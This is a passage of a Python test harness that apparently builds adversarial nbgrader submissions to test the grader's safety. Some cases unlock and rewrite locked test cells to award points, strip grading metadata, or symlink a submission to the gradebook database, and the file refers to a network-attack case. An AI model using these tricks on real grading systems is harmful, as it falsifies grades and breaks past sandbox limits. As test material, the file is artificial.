                           "threading.Thread(target=_tick, daemon=True).start()\n")]),
        Case("showwarning_hook", "correct; a warnings.showwarning hook and a warning in mean",
             FULL, answers={"answer_mean": "import warnings\n"
                            "def _show(message, category, filename, lineno, file=None, line=None):\n"
                            "    print('warning:', message)\n"
                            "warnings.showwarning = _show\n"
                            "def mean(values):\n    warnings.warn('computing a mean')\n"
                            "    return float(np.mean(values))\n"}),
        Case("multiprocessing_pool", "correct; square_list uses multiprocessing.Pool", FULL,
             answers={"answer_square": "import multiprocessing\n"
                      "def _sq(i):\n    return i * i\n"
                      "def square_list(n):\n    if n < 0:\n"
                      "        raise ValueError('n must not be negative')\n"
                      "    with multiprocessing.Pool(2) as pool:\n"
                      "        return pool.map(_sq, range(n))\n"}),
        Case("numpy_submodules", "correct; mean via numpy.linalg, numpy.random and "
             "numpy.lib.stride_tricks", FULL,
             answers={"answer_mean": "import numpy.linalg, numpy.random\n"
                      "from numpy.lib.stride_tricks import sliding_window_view\n"
                      "def mean(values):\n    v = np.asarray(values, dtype=float)\n"
                      "    _ = np.random.default_rng(0).normal(size=2)\n"
                      "    ones = np.ones_like(v)\n"
                      "    _ = sliding_window_view(v, 1)\n"
                      "    return float(v @ ones / np.linalg.norm(ones) ** 2)\n"}),
    ]


def _find(nb: dict, grade_id: str) -> int:
    for i, cell in enumerate(nb["cells"]):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def _drop_cell(nb, grade_id):
    del nb["cells"][_find(nb, grade_id)]


def _set_source(nb, grade_id, source):
    nb["cells"][_find(nb, grade_id)]["source"] = source


def _strip_meta(nb, grade_id):
    cell = nb["cells"][_find(nb, grade_id)]
    cell["metadata"] = {}
    cell["source"] = "print('no test here')\n"


def _unlock_and_edit(nb, grade_id):
    cell = nb["cells"][_find(nb, grade_id)]
    cell["metadata"]["nbgrader"]["locked"] = False
    cell["metadata"]["nbgrader"]["points"] = 5
    cell["source"] = "assert True\n"


def build_course(course_dir: Path, port: int, only: list[str] | None = None) -> dict:
    """Write the course, generate the release with nbgrader, and submit every case.

    Returns {student: Case}. ``port``: where the network attack tries to connect.
    """
    course_dir = Path(course_dir).resolve()
    (course_dir / "source" / ASSIGNMENT).mkdir(parents=True, exist_ok=True)
    (course_dir / "nbgrader_config.py").write_text(
        "c = get_config()\nc.CourseDirectory.course_id = 'safety-suite'\n"
        "c.Execute.timeout = 10\n"
        f"c.SandboxedExecute.reserved_functions = {RESERVED!r}\n"
        "from nbgrader.preprocessors import GetGrades\n"
        "from nbconvert.preprocessors import CSSHTMLHeaderPreprocessor\n"
        "from lstm_course.nbgrader_plugins import HideHiddenTestsInFeedback\n"
        "c.GenerateFeedback.preprocessors = [GetGrades, HideHiddenTestsInFeedback, "
        "CSSHTMLHeaderPreprocessor]\n"
        "c.ClearSolutions.code_stub = {'python': 'raise NotImplementedError()'}\n")
    nbformat.write(source_notebook(), course_dir / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    subprocess.run([sys.executable, "-m", "nbgrader", "generate_assignment", ASSIGNMENT,
                    "--force", "--log-level=ERROR"], cwd=course_dir, check=True,
                   env={**os.environ, "PATH": os.pathsep.join([os.path.dirname(sys.executable),
                                                               os.environ.get("PATH", "")])})
    release = json.loads((course_dir / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text())
    paths = {"course_dir": str(course_dir),
             "source_notebook": str(course_dir / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
             "gradebook": str(course_dir / "gradebook.db"),
             "other_submission": str(course_dir / "submitted" / "correct" / ASSIGNMENT
                                     / f"{ASSIGNMENT}.ipynb"),
             "port": port}
    chosen = {c.name: c for c in cases(paths) if only is None or c.name in only}
    for case in chosen.values():
        target = course_dir / "submitted" / case.name / ASSIGNMENT
        target.mkdir(parents=True, exist_ok=True)
        (target / "timestamp.txt").write_text("2026-01-01 12:00:00.000000 UTC")
        if case.name == "symlink_escape":
            link = target / "gradebook_link.db"
            if not link.is_symlink():
                link.symlink_to(paths["gradebook"])
        if case.name in NOTEBOOK_LINKS:  # relative, as a git checkout or `tar x` keeps them
            link = target / f"{ASSIGNMENT}.ipynb"
            if not link.is_symlink():
                link.symlink_to(NOTEBOOK_LINKS[case.name])
            continue
        for name, text in case.files.items():
            (target / name).write_text(text)
        if case.raw is not None:
            (target / f"{ASSIGNMENT}.ipynb").write_bytes(case.raw)
            continue
        nb = json.loads(json.dumps(release))
        if case.name != "untouched":
            for grade_id, src in ANSWERS.items():
                _set_source(nb, grade_id, case.answers.get(grade_id, SOLVED[grade_id]))
            for after, src in reversed(case.extra_cells):
                nb["cells"].insert(_find(nb, after) + 1, {
                    "cell_type": "code", "execution_count": None, "id": f"extra-{len(nb['cells'])}",
                    "metadata": {}, "outputs": [], "source": src})
        if case.mutate is not None:
            case.mutate(nb)
        (target / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(nb, indent=1))
    if only is None or "correct" in only:
        correct = (course_dir / "submitted" / "correct" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text()
        for bad in BAD_IDS:
            target = course_dir / "submitted" / bad / ASSIGNMENT
            target.mkdir(parents=True, exist_ok=True)
            (target / "timestamp.txt").write_text("2026-01-01 12:00:00.000000 UTC")
            (target / f"{ASSIGNMENT}.ipynb").write_text(correct)
    return chosen


if __name__ == "__main__":
    built = build_course(Path(sys.argv[1]), port=int(sys.argv[2]) if len(sys.argv) > 2 else 9)
    print(f"{len(built)} submissions in {sys.argv[1]}/submitted")
